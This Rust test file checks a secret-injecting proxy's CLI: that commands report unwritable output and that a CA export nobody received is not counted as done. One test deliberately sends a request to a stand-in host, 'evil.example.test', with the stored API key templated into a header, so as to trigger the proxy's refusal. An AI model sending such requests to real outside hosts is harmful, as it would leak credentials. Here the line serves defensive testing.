//! Promise: a command whose output was not taken does not say that all is well, and what was to be handed out
//! by it does not count as handed out. A reader that has had enough is no failure.

use std::path::Path;

use crate::cli::commands::{assert_line, printed};
use crate::support::{Canary, Proxy};

/// Takes nothing, as a disk without room.
const FULL: &str = "/dev/full";
const HOST: &str = "api.example.test";

/// Every command that prints.
const COMMANDS: [&str; 18] = [
    "status",
    "status --json",
    "check",
    "check --json",
    "reload",
    "audit",
    "audit --verify",
    "audit --verify --json",
    "ca",
    "ca export",
    "ca rotate",
    "ca rotate --finish --force",
    "install --print",
    "uninstall",
    "env",
    "doctor",
    "demo",
    "--help",
];

/// A proxy with a secret and a record, or none where there is no such device.
fn scene() -> Option<Proxy> {
    if !Path::new(FULL).exists() {
        eprintln!("SKIPPED: there is no {FULL} here");
        return None;
    }
    Some(Proxy::builder().secret("API_KEY", &Canary::new(), HOST).start())
}

/// Nothing of it was taken: one line says so.
#[track_caller]
fn assert_lost(proxy: &Proxy, words: &str) {
    let output = proxy.typed(&format!("secret-proxy {words} > {FULL}"), &[]);
    let told = String::from_utf8_lossy(&output.stderr);
    assert_eq!((output.status.code(), told.lines().count()), (Some(1), 1), "{words}: {told}");
    assert!(told.contains("cannot write to standard output"), "{words}: {told}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_is_not_taken_is_told_by_every_command() {
    let Some(proxy) = scene() else { return };
    let refused = proxy.client().get("https://evil.example.test/").header("x-api-key", "{{API_KEY}}").send().await;
    let id = refused.expect("answered").header("x-secret-proxy-id").expect("a refusal has an id").to_owned();
    for words in COMMANDS.into_iter().map(str::to_owned).chain([format!("why {id}")]) {
        assert_lost(&proxy, &words);
    }
}

#[test]
fn an_export_that_was_not_taken_is_none() {
    let Some(proxy) = scene() else { return };
    printed(&proxy, &["ca", "rotate"], 0);
    assert_lost(&proxy, "ca export");
    let gone = proxy.typed("(sleep 0.3; secret-proxy ca export; echo \"code $?\" >&2) | true", &[]);
    assert_eq!(String::from_utf8_lossy(&gone.stderr), "code 0\n");
    assert_line(&printed(&proxy, &["ca"], 0), &["exported", "never"]);
    let early = proxy.cli(&["ca", "rotate", "--finish"]);
    assert!(String::from_utf8_lossy(&early.stderr).contains("never exported"), "{early:?}");
    printed(&proxy, &["ca", "export"], 0);
    printed(&proxy, &["ca", "rotate", "--finish"], 0);
}

#[test]
fn a_reader_that_has_had_enough_is_no_failure() {
    let proxy = Proxy::builder().start();
    for words in ["status", "env", "ca export", "audit --verify", "--help"] {
        let gone = proxy.typed(&format!("(sleep 0.3; secret-proxy {words}; echo \"code $?\" >&2) | true"), &[]);
        let told = String::from_utf8_lossy(&gone.stderr);
        assert_eq!(told, "code 0\n", "{words}");
    }
}
